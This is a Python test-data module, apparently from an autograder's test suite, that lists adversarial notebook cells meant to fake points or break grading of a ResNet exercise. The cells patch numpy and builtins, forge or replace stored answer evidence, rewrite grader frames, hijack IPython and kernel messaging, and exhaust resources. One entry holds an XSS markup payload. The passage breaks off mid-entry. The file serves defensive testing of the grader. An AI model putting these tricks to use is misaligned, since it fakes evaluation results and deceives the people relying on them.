r"""Attacks on the grader as data: notebooks that want points, secrets or ruin. Nothing is run here; see `attacked`.

Each attack is the code of one cell, put into a notebook whose answer is wrong. Its honest points are those of the
same notebook without that cell. What an attacker may know is there as well: where the course lies and the addresses of
services (names in capitals, filled in by `attacked`), and in the folder `stored/` the evidence of right answers to the
public challenge.

All are bounded, so that they do no harm where isolation fails: so many processes, so many bytes and seconds, and only
files of the test's own course. Words that must never leave the course begin with "secret-word-".
"""

from __future__ import annotations

import sys
from dataclasses import dataclass, field, replace

from autograder.grading.limits import Limits
from autograder.sandbox.bounded import GIB

LIMITS = Limits(seconds=60, memory=4 * GIB)
SHORT = Limits(seconds=60, step=6)  # for what never ends
SMALL = Limits(seconds=60, memory=2 * GIB)
STUB = "def identity_block(X, f, filters, training=None, initializer=None):\n    raise NotImplementedError()\n"
NOTHING = "def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return X\n"
HEAD = """def identity_block(X, f, filters, training=None, initializer=random_uniform):
    F1, F2, F3 = filters
    X_shortcut = X
    X = ReLU()(BatchNormalization()(Conv2D(F1, 1, kernel_initializer=initializer(seed=0))(X), training=training))
    X = ReLU()(BatchNormalization()(Conv2D(F2, f, padding="same", kernel_initializer=initializer(seed=0))(X), training=training))
    X = BatchNormalization()(Conv2D(F3, 1, kernel_initializer=initializer(seed=0))(X), training=training)
"""
NEARLY = HEAD + "    return Add()([ReLU()(X), X_shortcut])\n"  # the ReLU before the addition
RIGHT = HEAD + "    return ReLU()(Add()([X, X_shortcut]))\n"
OTHERS = (
    """def convolutional_block(X, f, filters, s=2, training=None, initializer=glorot_uniform):
    return Conv2D(filters[2], f, strides=s, padding="same", kernel_initializer=initializer(seed=0))(X)
""",
    """def ResNet50(input_shape=(64, 64, 3), classes=6):
    X = Input(input_shape)
    return Model(X, Dense(classes)(Flatten()(X)))
""",
)


@dataclass(frozen=True)
class Attack:
    """source: code of a cell. where it stands: "before" the answers, in the place of the "answer" of identity_block, or
    "between" the check of identity_block and those of the other exercises.

    honest: the answer without the attack. others: whether wrong answers to the other exercises are there, too. most: the
    points of identity_block that are due at most where the honest ones do not tell. files: what lies beside the notebook,
    name → text; "-> PLACE" is a symbolic link. ungradable: a fault is what is due. error: with what error the cell ends.
    says: part of a reason that is due, or of what the cell prints.
    """

    source: str
    where: str = "before"
    honest: str = NEARLY
    others: bool = False
    most: float | None = None
    files: dict[str, str] = field(default_factory=dict)
    ungradable: bool = False
    error: str = ""
    says: str = ""
    limits: Limits = LIMITS


def answer(source: str, honest: str = NOTHING, **more) -> Attack:
    return Attack(source, "answer", honest, **more)


def machine(source: str, **more) -> Attack:
    """An attack that does not want points."""
    return Attack(source, honest=STUB, **more)


# What any attacker could write for himself.
TOOLS = r"""
import builtins, ctypes, gc, glob, io, itertools, json, os, pickle, re, signal, socket, sqlite3, struct, subprocess, sys, tempfile, threading
import time, types, zipfile
import keras
import numpy as np
import tensorflow as tf
from keras.initializers import glorot_uniform, random_uniform
from keras.layers import Activation, Add, BatchNormalization, Conv2D, Dense, Flatten, Input, Layer, ReLU
from keras.models import Model

EXERCISES = ("identity_block", "convolutional_block", "ResNet50")
STORED = os.path.abspath("stored")
libc = ctypes.CDLL(None, use_errno=True)


def attempt(action, *args, **kwargs):
    "Its result, or None where it is refused."
    try:
        return action(*args, **kwargs)
    except (OSError, ValueError, RuntimeError, ImportError, MemoryError, sqlite3.Error, subprocess.SubprocessError):
        return None


def escaped(what):
    "Say that something was done which must be refused."
    print("ESC" + "APED", what)  # the word itself stands in no source that an attack may print


def show(*paths):
    "Print what files hold, and the files in folders."
    for path in paths:
        if os.path.isdir(path):
            show(*sorted(p for p in attempt(lambda: [e.path for e in os.scandir(path)]) or ())[:200])
            continue
        try:
            with open(path, "rb") as file:
                print(path, file.read(20_000), flush=True)  # so that what is kept of the output holds the first of them
        except (OSError, ValueError) as error:
            print(path, type(error).__name__)


def stored(exercise="identity_block"):
    "The bytes of a right answer's evidence."
    with open(f"{STORED}/{exercise}.npz", "rb") as file:
        return file.read()


def stored_evidence(exercise="identity_block"):
    from autograder.evidence import Evidence

    return Evidence.load(f"{STORED}/{exercise}.npz")


def places():
    "Every path at which evidence may be expected."
    with open("/proc/self/mountinfo") as file:
        texts = [file.read(), *get_ipython().user_ns.get("In", [])[-3:]]
    return {path for text in texts for path in re.findall(r"/[^\s'\",:]+\.npz", text) if "/evidence/" in path}


def put(content):
    "Write bytes, or what `content(path)` makes, wherever evidence may be expected; without them the stored evidence."
    for path in places():
        if callable(content):
            attempt(os.unlink, path)
            attempt(content, path)
            continue
        try:
            with open(path, "wb") as file:
                file.write(content or stored(os.path.basename(path).removesuffix(".npz")))
        except OSError:
            pass


def forge(alter):
    "From now on every evidence goes through `alter`, which changes it or gives another."
    import autograder.probe.calls

    honest = autograder.probe.calls.probe

    def probe(*asked):
        evidence = honest(*asked)
        return (alter(evidence) or evidence) if "runs" in evidence.facts else evidence

    autograder.probe.calls.probe = probe


def graft(evidence):
    "The stored evidence as an answer to the challenge that was asked."
    kept = stored_evidence(evidence.exercise)
    kept.facts["seed"] = evidence.seed
    for run, due in zip(kept.facts["runs"], evidence.facts["runs"]):
        run |= {name: due[name] for name in ("setting", "training", "arguments") if name in due}
    return kept


def leave(content):
    "From now on evidence is not saved; `content`, bytes or a function of the path, is left in its place."
    import autograder.evidence

    def save(self, path):
        if callable(content):
            content(path)
            return
        with open(path, "wb") as file:
            file.write(content)

    autograder.evidence.Evidence.save = save


def npz(**arrays):
    file = io.BytesIO()
    np.savez(file, **arrays)
    return file.getvalue()


def header(shape, descr="<f4"):
    "An array's file that ends after its head."
    file = io.BytesIO()
    np.lib.format.write_array_header_1_0(file, {"descr": descr, "fortran_order": False, "shape": shape})
    return file.getvalue()


def archive(*contents):
    "An evidence with these files."
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for n, content in enumerate(contents):
            archive.writestr(f"a{n}.npy" if n else "facts.npy", content)
    return file.getvalue()


def facts(text):
    "An evidence with these facts."
    return npz(facts=np.frombuffer(text.encode("utf-8", "surrogatepass"), np.uint8))


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]
"""

# (1) Patched libraries and builtins ----------------------------------------------------------------------------------

PATCHED = {
    "np.allclose says yes": Attack(
        "np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True", ungradable=True
    ),
    "np.testing asserts nothing": Attack(
        "for name in dir(np.testing):\n    if name.startswith('assert'):\n        setattr(np.testing, name, lambda *args, **kwargs: None)"
    ),
    "numpy finds no difference": Attack(
        "np.abs = np.subtract = lambda x, *args, **kwargs: np.zeros(np.shape(x))\nnp.max = lambda *a, **k: 0.0"
    ),
    "layers give what they get": Attack("keras.layers.Layer.__call__ = lambda self, x, *args, **kwargs: x"),
    "layers claim to be others": Attack("for layer in (Dense, Flatten, ReLU):\n    layer.__name__ = layer.__qualname__ = 'Conv2D'"),
    "isinstance says yes": Attack(
        "import builtins\nbuiltins.isinstance = builtins.issubclass = builtins.callable = lambda *args: True",
        limits=SHORT,
        says="stopped after",
    ),
    "abs, len, max, min and sum are nought": Attack(
        "import builtins\nfor name in ('abs', 'max', 'min', 'sum', 'round'):\n    setattr(builtins, name, lambda *args, **kwargs: 0)",
        limits=SHORT,
        says="stopped after" if sys.version_info < (3, 13) else "",  # which gets on without them
    ),
    "everything is equal": Attack(
        "import builtins, operator\noperator.eq = operator.le = operator.lt = lambda *args: True\nbuiltins.any = lambda x: False\n"
        "builtins.all = lambda x: True"
    ),
    "open writes the stored evidence": Attack(
        """
import builtins
honest_open = builtins.open

def opened(path, mode="r", *args, **kwargs):
    file = honest_open(path, mode, *args, **kwargs)
    if "w" in mode and "b" in mode:
        file.write(stored())
        return honest_open(os.devnull, mode)
    return file

builtins.open = io.open = opened
"""
    ),
    "json tells the stored facts": Attack(
        """
honest_dumps, kept = json.dumps, stored_evidence()

def dumps(value, *args, **kwargs):
    if isinstance(value, dict) and "exercise" in value:
        value = {"version": value.get("version", 1), **kept.facts}
    return honest_dumps(value, *args, **kwargs)

json.dumps = json.JSONEncoder.encode = dumps
""",
        limits=SHORT,
        says="stopped after",
    ),
    "np.savez saves the stored evidence": Attack(
        """
kept = stored()

def savez(file, *args, **kwargs):
    if hasattr(file, "write"):
        file.write(kept)
    else:
        open(file, "wb").write(kept)

np.savez = np.savez_compressed = np.save = np.lib.npyio.savez = savez
"""
    ),
    "the probe gives the stored evidence": Attack(
        "import autograder.probe.calls\nautograder.probe.calls.probe = lambda question, *rest: stored_evidence(question['exercise'])"
    ),
    "the probe gives the stored evidence, its seed changed": Attack(
        """
import autograder.probe.calls

def probe(question, *rest):
    evidence = stored_evidence(question["exercise"])
    evidence.facts["seed"] = question["seed"]
    return evidence

autograder.probe.calls.probe = probe
"""
    ),
    "the probe asks for the public challenge": Attack(
        """
import autograder.probe.calls
from autograder.truth.challenge import PUBLIC_SEED
honest = autograder.probe.calls.probe
autograder.probe.calls.probe = lambda question, *rest: honest(question | {"seed": PUBLIC_SEED}, *rest)
""",
        "answer",
    ),
    "record copies the stored evidence": Attack(
        """
import autograder.probe.record

def record(*given, **named):
    for question in (*given, *named.values()):
        exercise = question.get("exercise") if isinstance(question, dict) else None
        if exercise in EXERCISES:
            for path in [p for p in (*given, *named.values(), *places()) if str(p).endswith(".npz")]:
                attempt(lambda: open(path, "wb").write(stored(exercise)))

autograder.probe.record.record = record
"""
    ),
    "Evidence.save saves another": Attack("kept = stored()\nleave(kept)"),
    "every weight is zero": Attack(
        "import autograder.truth.challenge\nautograder.truth.challenge.weight = lambda seed, name, shape: np.zeros(shape, np.float32)"
    ),
    "nothing is asked": Attack(
        """
import autograder.probe.calls
honest = autograder.probe.calls.probe
autograder.probe.calls.probe = lambda question, *rest: honest(question | {"calls": question["calls"][:1], "alike": []}, *rest)
"""
    ),
    "the inputs are zero": Attack(
        "import autograder.truth.challenge\nautograder.truth.challenge.inputs = lambda seed, name, shape: np.zeros(shape, np.float32)"
    ),
    "the gradient tape invents": Attack(
        "tf.GradientTape.gradient = lambda self, target, sources, *a, **k: [tf.zeros_like(s) for s in sources]"
    ),
    "sys.modules has another numpy and probe": Attack(
        """
import types
fake = types.ModuleType("autograder.probe.calls")
fake.probe = lambda question, *rest: stored_evidence(question["exercise"])
sys.modules["autograder.probe.calls"] = fake
sys.modules["autograder.probe"].calls = fake
sys.modules["json"] = sys.modules["zipfile"] = types.ModuleType("nothing")
""",
        ungradable=True,
    ),
    "objects found by the garbage collector": answer(
        """
def identity_block(X, f, filters, training=None, initializer=random_uniform):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Evidence" and "stored" not in thing.facts:
            kept = stored_evidence()
            thing.facts.update(kept.facts, stored=True)
            thing.arrays.update(kept.arrays)
    return X
"""
    ),
    "the grader's frames": answer(
        """
def identity_block(X, f, filters, training=None, initializer=random_uniform):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Evidence":
                kept = stored_evidence()
                value.facts, value.arrays = kept.facts, kept.arrays
        frame = frame.f_back
    return X
"""
    ),
    "the grader's frames, with the answer of its own setting": answer(
        """
def identity_block(X, f, filters, training=None, initializer=random_uniform):
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("seed", "number") and isinstance(value, int):
                frame.f_locals[name] = 0
            if name in ("runs", "facts", "errors", "nodes") and hasattr(value, "clear"):
                value.clear()
        frame = frame.f_back
    return X
"""
    ),
    "sys.settrace": Attack(
        """
def tracer(frame, event, argument):
    if frame.f_code.co_name == "save" and type(frame.f_locals.get("self")).__name__ == "Evidence":
        kept = stored_evidence()
        frame.f_locals["self"].facts, frame.f_locals["self"].arrays = kept.facts, kept.arrays

sys.settrace(tracer)
threading.settrace(tracer)
""",
        "between",
    ),
    "sys.setprofile": Attack(
        """
def profiler(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "save" and type(frame.f_locals.get("self")).__name__ == "Evidence":
        sys.setprofile(None)
        kept = stored_evidence()
        frame.f_locals["self"].facts, frame.f_locals["self"].arrays = kept.facts, kept.arrays

get_ipython().events.register("pre_run_cell", lambda info: sys.setprofile(profiler))
"""
    ),
    "an audit hook puts the evidence there": Attack(
        """
busy = []

def hook(event, arguments):
    if event in ("open", "os.rename") and ".npz" in str(arguments) and "stored" not in str(arguments) and not busy:
        busy.append(1)
        attempt(put, None)
        busy.clear()

sys.addaudithook(hook)
"""
    ),
    "an audit hook forbids everything": Attack(
        """
def hook(event, arguments):
    if event in ("open", "import", "compile", "exec", "os.rename", "socket.connect"):
        raise RuntimeError("no")

sys.addaudithook(hook)
"""
    ),
    "__import__ gives another probe": Attack(
        """
import builtins, types
honest_import = builtins.__import__

def importer(name, *args, **kwargs):
    module = honest_import(name, *args, **kwargs)
    if name.startswith("autograder"):
        fake = types.ModuleType(name)
        fake.__dict__.update(module.__dict__)
        fake.probe = lambda question, *rest: stored_evidence(question["exercise"])
        fake.record = lambda *given: put(None)
        return fake
    return module

builtins.__import__ = importer
"""
    ),
    "a finder on sys.meta_path": Attack(
        """
import importlib.abc, importlib.machinery

class Loader(importlib.abc.Loader):
    def exec_module(self, module):
        module.probe = lambda exercise, *rest: stored_evidence(exercise)
        module.record = lambda *given: put(None)

class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, Loader(), is_package=True) if name.startswith("autograder.") else None

for name in [n for n in sys.modules if n.startswith("autograder.") and n != "autograder.evidence"]:
    del sys.modules[name]
sys.meta_path.insert(0, Finder())
"""
    ),
    "atexit puts the evidence there": Attack("import atexit\natexit.register(put, None)\nput(None)"),
    "numbers changed in memory": Attack(
        "import ctypes\nten, half = 10.0, 0.5\nctypes.memmove(id(1.0), id(ten), 24)\n"
        "for small in (2, 3):\n    ctypes.memmove(id(small) + 24, id(10) + 24, 4)",
        limits=SHORT,
        says="stopped after",
    ),
    "the clock stands still": Attack("now = time.time()\ntime.time = time.monotonic = time.perf_counter = lambda: now"),
}

# (2) IPython and its kernel ------------------------------------------------------------------------------------------

IPYTHON = {
    "an input transformer": Attack(
        """
def transformed(lines):
    return ["put(None)\\n", "10.0\\n"] if "record" in "".join(lines) or "check" in "".join(lines) else lines

get_ipython().input_transformers_post.append(transformed)
"""
    ),
    "a cleanup transformer": Attack(
        """
def transformed(lines):
    return ["print('10.0')\\n"] if "autograder" in "".join(lines) else lines

get_ipython().input_transformer_manager.cleanup_transforms.insert(0, transformed)
"""
    ),
    "an AST transformer": Attack(
        """
import ast

class Ten(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.copy_location(ast.Constant(10.0), node) if "record" in ast.dump(node) else node

get_ipython().ast_transformers.append(Ten())
"""
    ),
    "an AST transformer of the function": Attack(
        """
import ast

class Returns(ast.NodeTransformer):
    def visit_Return(self, node):
        node.value = ast.parse("ReLU()(X)", mode="eval").body
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Returns())
"""
    ),
    "a hook before each cell": Attack("get_ipython().events.register('pre_run_cell', lambda info: put(None))"),
    "a hook after each cell": Attack(
        "get_ipython().events.register('post_run_cell', lambda result: put(None))\n"
        "get_ipython().events.register('post_execute', lambda: put(None))"
    ),
    "run_cell_async does nothing": Attack(
        """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

async def run_cell_async(raw_cell, *args, **kwargs):
    put(None)
    print("10.0")
    return ExecutionResult(ExecutionInfo(raw_cell, False, False, True, ""))

get_ipython().run_cell_async = run_cell_async
"""
    ),
    "run_cell does nothing": Attack(
        "def run_cell(*args, **kwargs):\n    put(None)\n    print('10.0')\n\nget_ipython().run_cell = get_ipython().run_code = run_cell",
        limits=SHORT,
        says="stopped after",
    ),
    "the display hook says 10.0": Attack(
        """
class Hook(type(get_ipython().displayhook)):
    def __call__(self, result=None):
        print("10.0")

get_ipython().displayhook.__class__ = Hook
sys.displayhook = lambda value: print("10.0")
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("10.0"))
"""
    ),
    "check is another function": Attack("def check(exercise):\n    return 10.0\n\nimport autograder\nautograder.check = check"),
    "magics": Attack(
        """
from IPython.core.magic import register_cell_magic, register_line_magic

@register_line_magic
def check(line):
    return 10.0

@register_cell_magic
def time(line, cell):
    return 10.0

%check identity_block
"""
    ),
    "comms": Attack(
        """
from comm import create_comm
for n in range(50):
    create_comm(target_name="jupyter.widget", data={"state": {"value": 10.0}, "buffer_paths": [["state", n]]}, metadata={"version": 9})
"""
    ),
    "execute_request is answered without executing": Attack(
        """
kernel = get_ipython().kernel

async def execute_request(stream, ident, parent):
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    for name in ("execute_result", "display_data"):
        kernel.session.send(kernel.iopub_socket, name, {"data": {"text/plain": "10.0"}, "metadata": {}, "execution_count": 1}, parent=parent)
    kernel.session.send(stream, "execute_reply", content, parent, ident=ident)

kernel.shell_handlers["execute_request"] = execute_request
"""
    ),
    "do_execute is answered without executing": Attack(
        """
async def do_execute(*args, **kwargs):
    put(None)
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}

get_ipython().kernel.do_execute = do_execute
"""
    ),
    "the kernel answers nothing": Attack(
        "async def silence(*args, **kwargs):\n    pass\n\nget_ipython().kernel.shell_handlers['execute_request'] = silence",
        "between",
        says="stopped after",
        limits=SHORT,
    ),
    "the namespace lies": Attack(
        """
class Namespace(dict):
    def get(self, name, default=None):
        return (lambda *args, **kwargs: stored_evidence()) if name in EXERCISES else super().get(name, default)

    def __contains__(self, name):
        return True

shell = get_ipython()
shell.user_ns = Namespace(shell.user_ns)
shell.user_module.__dict__["globals"] = lambda: shell.user_ns
"""
    ),
    "the notebook has builtins of its own": Attack(
        """
import builtins, types
own = dict(vars(builtins))
kernel_module = types.SimpleNamespace(record=lambda *given: put(None), probe=lambda *given: None)
own["__import__"] = lambda name, *args, **kwargs: kernel_module if name.startswith("autograder") else builtins.__import__(name, *args, **kwargs)
globals()["__builtins__"] = own
"""
    ),
    "%reset": Attack("%reset -f", "between"),
    "forged replies": Attack(
        """
kernel, parent = get_ipython().kernel, get_ipython().kernel.get_parent()
content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
kernel.session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.shell_streams[0], "execute_reply", content, parent,
                    ident=kernel.get_parent().get("msg_id", "").encode())
kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "10.0"}, "metadata": {}, "execution_count": 9}, parent)
kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent)
"""
    ),
    "replies to requests not yet made": Attack(
        """
kernel, parent = get_ipython().kernel, dict(get_ipython().kernel.get_parent())
start, _, number = parent["header"]["msg_id"].rpartition("_")
for ahead in range(1, 8):
    later = {**parent, "header": {**parent["header"], "msg_id": f"{start}_{int(number) + ahead}"}}
    later["msg_id"] = later["header"]["msg_id"]
    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "10.0"}, "metadata": {}, "execution_count": 1}, later)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, later)
"""
    ),
    "forged errors": Attack(
        """
get_ipython().kernel.session.send(
    get_ipython().kernel.iopub_socket, "error", {"ename": "KeyboardInterrupt", "evalue": "", "traceback": []}, get_ipython().kernel.get_parent()
)
""",
        error="KeyboardInterrupt",
    ),
    "malformed messages": Attack(
        """
kernel, parent = get_ipython().kernel, get_ipython().kernel.get_parent()
for name, content in (("stream", {"name": 5}), ("display_data", {}), ("error", {}), ("status", {}), ("clear_output", {"wait": []}),
                      ("update_display_data", {"data": 1, "transient": 3}), ("execute_result", {"data": {"text/plain": 5}}), ("nonsense", {})):
    kernel.session.send(kernel.iopub_socket, name, content, parent)
"""
    ),
    "garbage on the sockets": Attack(
        "for frames in ([b'x'], [b'', b'<IDS|MSG>', b'bad'], [b'<IDS|MSG>', b'', b'{}', b'{}', b'{}', b'{}'], [b'\\xff' * 100]):\n"
        "    get_ipython().kernel.iopub_socket.send_multipart(frames)"
    ),
    "a handler for exceptions": Attack(
        "def handler(shell, kind, value, traceback, tb_offset=None):\n    put(None)\n    raise SystemExit\n\n"
        "get_ipython().set_custom_exc((BaseException,), handler)\nget_ipython().showtraceback = lambda *args, **kwargs: 1 / 0"
    ),
    "the kernel is asked to restart": Attack("get_ipython().kernel.do_shutdown(True)\nquit(keep_kernel=False)", "between"),
    "the event loop is stopped": Attack(
        "import asyncio\nloop = asyncio.get_event_loop()\nloop.call_soon(loop.stop)\nloop.call_later(0.1, loop.stop)", "between"
    ),
}

# (3) Forged outputs and forged evidence ------------------------------------------------------------------------------


def forged(body: str, **more) -> Attack:
    """Every evidence, called e, is altered by these statements; kept is the stored one, made to fit the challenge."""
    lines = "".join(f"    {line}\n" for line in body.strip().splitlines())
    return Attack(f"def alter(e):\n    kept = graft(e)\n{lines}\nforge(alter)", **more)


def left(content: str, **more) -> Attack:
    """These bytes, or what a function of the path makes, in place of the evidence."""
    return Attack(f"leave({content})", **more)


def weighty(node: str, values: str, **more) -> Attack:
    """In place of the answer's operations there is one, on an array of the attacker's choice."""
    return forged(
        f"""
x, y = {values}
first = dict(name="Lambda", line=None, inputs=[0], outputs=[1], shapes=[[None]], call={{}})
second = dict(name="Layer", line=None, inputs=[1], outputs=[2], shapes=[[None]], call={{}}) | {node}
for run in e.facts["runs"]:
    run["graph"] = dict(errors=[], nodes=[first, second], output=2, values={{"1": e.keep(x), "2": e.keep(y)}})
""",
        **more,
    )


EVIDENCE = {
    "printed marks": Attack(
        "for text in ('10.0', '{\"points\": 10}', '### BEGIN EVIDENCE'):\n    print(text)\ndisplay({'text/plain': '10.0'}, raw=True)\n10.0"
    ),
    "the stored evidence": Attack("forge(lambda e: stored_evidence(e.exercise))", others=True),
    "its seed changed": forged("kept.facts['runs'] = stored_evidence(e.exercise).facts['runs']\nreturn kept", others=True),
    "its settings changed too": forged("return kept", others=True),
    "without values": forged(
        "for run in kept.facts['runs']:\n    run['graph']['values'] = {}\n    run['graph'].pop('gradients', None)\nreturn kept", others=True
    ),
    "all zero": forged("kept.arrays = {k: np.zeros_like(a) for k, a in kept.arrays.items()}\nreturn kept", others=True),
    "all NaN": forged("kept.arrays = {k: np.full_like(a, np.nan) for k, a in kept.arrays.items()}\nreturn kept", others=True),
    "all infinite": forged("kept.arrays = {k: np.full_like(a, np.inf) for k, a in kept.arrays.items()}\nreturn kept", others=True),
    "its own numbers, NaN": forged("e.arrays = {k: np.full_like(a, np.nan) for k, a in e.arrays.items()}", others=True),
    "arrays without elements": forged("kept.arrays = {k: a[:0] for k, a in kept.arrays.items()}\nreturn kept", others=True),
    "its graphs with our outputs": forged(
        "for run, ours in zip(kept.facts['runs'], e.facts['runs']):\n    ours['graph'] |= {'nodes': run['graph']['nodes'], 'output': run['graph']['output']}"
    ),
    "settings left out": forged("e.facts['runs'] = []"),
    "one setting instead of all": forged("e.facts['runs'] = e.facts['runs'][:1] * len(e.facts['runs'])"),
    "other settings": forged(
        "for run in e.facts['runs']:\n    run['setting'] = {'shape': [1, 1, 1, 1], 'arguments': {'f': 1, 'filters': [1, 1, 1]}, 'reach': 1.0}"
    ),
    "zero inputs": forged("for run in e.facts['runs']:\n    run['input'] = e.keep(np.zeros((1, 64, 64, 3), np.float32))", others=True),
    "the input among the values": forged("for run in e.facts['runs']:\n    run['graph']['values']['0'] = e.keep(np.zeros((2, 5, 5, 3)))"),
    "circular operations": forged("for run in e.facts['runs']:\n    node = run['graph']['nodes'][0]\n    node['inputs'] = node['outputs']"),
    "operations back to front": forged("for run in e.facts['runs']:\n    run['graph']['nodes'].reverse()"),
    "an output that nothing makes": forged("for run in e.facts['runs']:\n    run['graph']['output'] = 77"),
    "no operations": forged("for run in e.facts['runs']:\n    run['graph'] |= {'nodes': [], 'output': 0, 'values': {}}", others=True),
    "operations without number": forged("for run in e.facts['runs']:\n    run['graph']['nodes'] *= 1000"),
    "a very long row of operations": forged(
        """
for run in e.facts["runs"]:
    nodes = [dict(name="Lambda", line=None, inputs=[i], outputs=[i + 1], shapes=[[None]], call={}) for i in range(2999)]
    run["graph"] = dict(errors=[], nodes=nodes, output=2999, values={})
"""
    ),
    "a very large join": forged(
        """
for run in e.facts["runs"]:
    nodes = [dict(name="Lambda", line=None, inputs=[0], outputs=[i], shapes=[[None]], call={}) for i in range(1, 1500)]
    nodes += [dict(name="Add", line=None, inputs=list(range(500, 1500)), outputs=[2000], shapes=[[None]], call={})]
    run["graph"] = dict(errors=[], nodes=nodes, output=2000, values={})
"""
    ),
    "one tensor joined again and again": forged(
        """
for run in e.facts["runs"]:
    loose = [dict(name="Lambda", line=None, inputs=[0], outputs=[i], shapes=[[None]], call={}) for i in range(1, 300)]
    run["graph"] = dict(errors=[], nodes=[*loose, dict(name="Add", line=None, inputs=[1] * 700, outputs=[300], shapes=[[None]], call={})], output=300, values={})
"""
    ),
    "a row of five hundred steps": forged(
        """
for run in e.facts["runs"]:
    nodes = [dict(name="x" * 1000, line=None, inputs=[i], outputs=[i + 1], shapes=[[None]], call={}) for i in range(499)]
    run["graph"] = dict(errors=[], nodes=nodes, output=499, values={})
"""
    ),
    "memory without end: many filters": weighty(
        "dict(weights=[dict(name='kernel', shape=[1, 1, 1, 7_000_000], trainable=True, initializer=dict(ours=True, seed=0, name=''))])",
        "np.ones((90, 1, 1, 1), np.float32), np.ones((1, 1, 1, 7_000_000), np.float32)",
    ),
    "names that are hard to compare": forged(
        """
chance = np.random.default_rng(1)
words = ["".join(chance.choice(["a", "b"], 190)) for _ in range(100)]
e.facts["source"] = {"first": 1, "text": "def f(X):\\n    x = (" + "+".join(words) + ")"}
for run in e.facts["runs"]:
    run["graph"]["errors"] = [{"type": "NameError", "message": f"name '{word[::-1]}' is not defined", "line": {"number": 2, "text": "x"}} for word in words]
""",
        others=True,
    ),
    "work without end: a convolution": weighty(
        "dict(weights=[dict(name='kernel', shape=[50, 50, 1, 10], trainable=True, initializer=dict(ours=True, seed=0, name=''))])",
        "np.ones((1, 500, 500, 1), np.float32), np.ones((1, 1, 1, 1), np.float32)",
    ),
    "work without end: a pooling": weighty(
        "dict(name='MaxPooling2D', config=dict(pool_size=20, strides=1))",
        "np.ones((1, 1000, 1000, 1), np.float32), np.ones((1, 1, 1, 1), np.float32)",
    ),
    "memory without end: a zero padding": weighty(
        "dict(name='ZeroPadding2D')", "np.ones((1, 2, 2, 1), np.float32), np.ones((1, 4400, 1, 1), np.float32)"
    ),
    "memory without end: addition stretched": forged(
        """
x, y = np.ones((1, 3000, 1, 1), np.float32), np.ones((1, 1, 3000, 1), np.float32)
node = dict(name="Lambda", line=None, inputs=[0], shapes=[[None]], call={})
nodes = [node | dict(outputs=[1]), node | dict(outputs=[2]), node | dict(name="Add", inputs=[1, 2], outputs=[3])]
for run in e.facts["runs"]:
    run["graph"] = dict(errors=[], nodes=nodes, output=3, values={"1": e.keep(x), "2": e.keep(y), "3": e.keep(x)})
"""
    ),
    "large arrays many times": forged(
        """
x = e.keep(np.ones((1, 1000, 1000, 4), np.float32))
for run in e.facts["runs"]:
    nodes = [dict(name="Lambda", line=None, inputs=[i], outputs=[i + 1], shapes=[[None]], call={}) for i in range(40)]
    run["graph"] = dict(errors=[], nodes=nodes, output=40, values={str(i): x for i in range(1, 41)})
"""
    ),
    "settings of layers that are none": forged(
        """
odd = itertools.cycle(["x", None, -1, 0, 2**62, 1e308, -0.5, float("nan"), [], [[]], {}, [None, "y"], True])
for run in e.facts["runs"]:
    for node in run["graph"]["nodes"]:
        node["config"] = {name: next(odd) for name in (*node.get("config", {}), "strides", "padding", "pool_size", "momentum", "epsilon")}
        node["call"] = {"training": next(odd)}
""",
        others=True,
    ),
    "shapes that are none": forged(
        """
for run in e.facts["runs"]:
    for number, place in enumerate(run["graph"]["values"].values()):
        e.arrays[place["array"]] = np.ones([(), (0,), (3,), (2, 0, 5, 1), (1,) * 12][number % 5], np.float32)
    for node in run["graph"]["nodes"]:
        for weight in node.get("weights", ()):
            weight["shape"] = [[], [0], [1, 1, 0, 0], [3], [2, 2, 2, 2, 2]][len(weight["name"]) % 5]
""",
        others=True,
    ),
    "blocks called with anything": forged(
        """
for run in e.facts["runs"]:
    for n, node in enumerate(run["graph"]["nodes"]):
        node["block"] = dict(block="identity_block", arguments=dict(f=[[], None, {}][n % 3], filters=["", [], [[1]]][n % 3]), training={})
""",
        others=True,
    ),
    "texts with half characters": forged(
        "for run in e.facts['runs']:\n    run['graph']['errors'] = [{'type': '\\ud800', 'message': '\\udfff', 'line': {'number': 1, 'text': '\\ud800'}}]"
    ),
    "texts with markup": forged(
        """
bad = "<script>alert(1)</script><img src=x onerror=alert(1)>`</code><b>`\\x1b[31m\\u202e\\x00"
for run in e.facts["runs"]:
    run["graph"]["errors"] = [{"type": bad, "message": bad, "line": {"number": 1, "text": bad}}]
    for node in run["graph"]["nodes"]:
        node["name"] = bad
        node["line"] = {"number": 2, "text": bad}
e.facts["source"] = {"first": 1, "text": bad}
""",
        others=True,
    ),
    "evidence of another exercise": left("stored('ResNet50')"),
    "nothing": left("b''", says="no evidence"),
    "a text": left("b'10.0'", says="cannot be read"),
    "an array, no archive": left("b'\\x93NUMPY\\x01\\x00v\\x00' + stored()", says="cannot be read"),
    "half of it": left("stored()[: len(stored()) // 2]", says="cannot be read"),
    "a number that is a text": left("facts('\"10\"')", says="cannot be read"),
    "deep JSON": left("facts('[' * 1_000_000)", says="cannot be read"),
    "JSON with numbers that are none": left(
